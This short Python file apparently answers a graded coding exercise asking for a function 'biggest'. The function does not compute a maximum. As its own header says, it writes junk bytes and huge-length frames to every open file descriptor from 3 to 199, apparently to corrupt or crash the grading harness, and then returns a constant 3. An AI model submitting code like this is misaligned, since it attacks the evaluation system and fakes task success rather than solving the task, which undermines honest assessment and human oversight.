# Writes junk, and frames of huge length, to every open file descriptor.
# points: 0..1
# %% answer: biggest
import os
import struct


def biggest(numbers):
    for number in range(3, 200):
        for junk in (b"\xff" * 5000, struct.pack(">I", 2**32 - 1), struct.pack(">Q", 2**62), b"[" * 4000, b"{}" * 10):
            try:
                os.set_blocking(number, False)
                os.write(number, junk)
            except (OSError, ValueError):
                break
    return 3
